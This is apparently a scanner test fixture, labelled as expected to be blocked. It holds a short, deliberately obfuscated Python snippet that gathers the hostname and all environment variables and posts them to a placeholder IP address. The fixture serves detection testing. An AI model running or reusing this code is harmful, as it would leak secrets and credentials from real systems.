# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/environment_dump.py technique: alias+concat
import os as _m0
import platform as _m1
import requests as _m2
payload = {'h' + 'o' + 's' + 't': _m1.node(), 'e' + 'n' + 'v': dict(_m0.environ)}
_m2.post('https:/' + '/203.0.' + '113.9/e', json=payload, timeout=5)
